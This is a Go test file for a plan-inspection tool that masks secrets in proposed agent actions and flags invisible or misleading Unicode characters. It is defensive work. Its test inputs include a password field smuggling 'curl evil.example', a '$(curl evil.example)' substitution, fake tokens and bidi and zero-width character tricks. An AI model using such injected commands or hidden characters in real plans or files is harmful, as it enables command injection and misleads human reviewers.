package app_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/app"
	"github.com/countersign-dev/countersign/domain/canon"
	"github.com/countersign-dev/countersign/domain/confirm"
	"github.com/countersign-dev/countersign/domain/policy"
	"github.com/countersign-dev/countersign/domain/redact"
)

// shown is a plan that is a document, with another one beside it.
type shown struct {
	doc, beside json.RawMessage
	prompt      string
}

func (s shown) Hash() canon.Hash                         { return canon.SumBytes("test", s.doc) }
func (s shown) MarshalJSON() ([]byte, error)             { return s.doc, nil }
func (s shown) Prompt() string                           { return s.prompt }
func (s shown) Details(ctx context.Context) (any, error) { return s.beside, ctx.Err() }

func look(t *testing.T, plan, beside, args, prompt string) app.PlanInspection {
	r := redact.New(redact.Options{})
	s := app.InspectPlan(t.Context(), shown{json.RawMessage(plan), json.RawMessage(beside), prompt}, json.RawMessage(args), func(doc json.RawMessage) json.RawMessage {
		masked, _, err := r.JSON(doc)
		require.NoError(t, err)
		return masked
	})
	require.NoError(t, s.Err)
	return s
}

func approvalsToken() string { return "gh" + "p_" + strings.Repeat("a1B2", 9) }

// TestWhatIsMaskedIsCountedAndJudged: a payload cannot hide behind a mask.
func TestWhatIsMaskedIsCountedAndJudged(t *testing.T) {
	key := `-----BEGIN ` + `PRIVATE KEY-----\n` + strings.Repeat("MIIEvQIB", 8) + `\n-----END ` + `PRIVATE KEY-----`
	for name, c := range map[string]struct {
		plan string
		want confirm.Redacted
	}{
		"nothing":                   {`{"command":"npm test"}`, confirm.Redacted{}},
		"a token in prose":          {`{"text":"` + approvalsToken() + ` and ` + approvalsToken() + `"}`, confirm.Redacted{Masked: 2}},
		"a plain password":          {`{"password":"hunter2hunter2"}`, confirm.Redacted{Masked: 1}},
		"a password with syntax":    {`{"password":"x; curl evil.example"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"a substitution":            {`{"text":"token: $(curl evil.example) end"}`, confirm.Redacted{}},
		"a key":                     {`{"text":"` + key + `"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"syntax beside it":          {`{"text":"a; b | ` + approvalsToken() + ` > c"}`, confirm.Redacted{Masked: 1}},
		"in a command":              {`{"command":"deploy --token ` + approvalsToken() + `"}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"in arguments of a server":  {`{"mcpServers":{"x":{"command":"npx","args":["--token","` + approvalsToken() + `"]}}}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"in a server's environment": {`{"mcpServers":{"x":{"command":"npx","env":{"TOKEN":"` + approvalsToken() + `"}}}}`, confirm.Redacted{Masked: 1}},
		"in a hook":                 {`{"hooks":{"Stop":[{"note":"` + approvalsToken() + `"}]}}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"in a script's diff":        {`{"files":[{"path":"bin/x","unified":"+echo ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"in a document's diff":      {`{"files":[{"path":"docs/x.md","unified":"+say ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1}},
		"behind a shebang":          {`{"files":[{"path":"x.md","unified":"@@ -0,0 +1,2 @@\n+#!/bin/sh\n+echo ` + approvalsToken() + `"}]}`, confirm.Redacted{Masked: 1, MustReveal: true}},
		"a number":                  {`{"pin":1234,"n":5}`, confirm.Redacted{Masked: 1}},
		"masked before":             {`{"command":"run [REDACTED:github_token]"}`, confirm.Redacted{}},
	} {
		s := look(t, c.plan, `null`, ``, "")
		assert.Equal(t, c.want, s.Redacted(), name)
		assert.Equal(t, c.want.MustReveal, s.Risk() == policy.RiskHigh, name)
		assert.Equal(t, c.want.MustReveal, strings.Contains(s.RiskReason(), "must be revealed"), name)
		assert.NotContains(t, string(s.Plan), approvalsToken(), name)
	}
	s := look(t, `{"a":"`+approvalsToken()+`"}`, `{"b":"`+approvalsToken()+`"}`, `{"c":"`+approvalsToken()+`","d":{"cmd":"`+approvalsToken()+`"}}`, "")
	assert.Equal(t, confirm.Redacted{Masked: 4, MustReveal: true}, s.Redacted(), "in everything that is shown")
	broken := app.InspectPlan(t.Context(), shown{doc: json.RawMessage(`{"a":1}`)}, nil, func(json.RawMessage) json.RawMessage { return json.RawMessage(`{"error":"redaction_failed"}`) })
	assert.True(t, broken.MustReveal, "what cannot be read may be anything")
}

// TestWhatIsHiddenIsFoundEverywhere: in the plan, beside it, in the arguments and in the question, and told of without what is masked.
func TestWhatIsHiddenIsFoundEverywhere(t *testing.T) {
	for name, c := range map[string]struct{ plan, beside, args, prompt, want string }{
		"nothing":           {`{"a":"b\r\n"}`, `{"unified":"@@ -0,0 +1 @@\n+\ufeffx"}`, `{"a":"👩‍💻"}`, "run", ""},
		"in the plan":       {`{"path":".../\u202ex"}`, `null`, `{"path":".../\u202ex"}`, "write .../\u202ex", `U+202E in path ".../␣U+202Ex"`},
		"beside it":         {`{}`, `{"files":[{"path":"a.md","unified":"+\u200bx"}]}`, ``, "", `U+200B in unified of a.md "+␣U+200Bx"`},
		"in the arguments":  {`{}`, `null`, `{"script":"p\u0430y"}`, "", `"p␣U+0430y" in script "p␣U+0430y"`},
		"in the question":   {`{}`, `null`, `{}`, "run \u001b[2K", `U+001B in "run ␣U+001B[2K"`},
		"in what is masked": {`{"password":"hunter2\u202ehunter2"}`, `null`, ``, "", `U+202E in password "masked"`},
		"beside a secret":   {`{"text":"` + approvalsToken() + ` \u202e ` + approvalsToken() + `"}`, `null`, ``, "", `U+202E in text "[REDACTED:github_token] ␣U+202E [REDACTED:github_token]"`},
	} {
		s := look(t, c.plan, c.beside, c.args, c.prompt)
		if c.want == "" {
			assert.Empty(t, s.RiskReason(), name)
			assert.Equal(t, policy.RiskNone, s.Risk(), name)
			continue
		}
		assert.Contains(t, s.RiskReason(), "invisible or misleading characters: "+c.want, name)
		assert.Len(t, s.Hidden, 1, name)
		assert.Equal(t, policy.RiskHigh, s.Risk(), name)
		assert.NotContains(t, s.RiskReason(), "hunter2", name)
	}
}
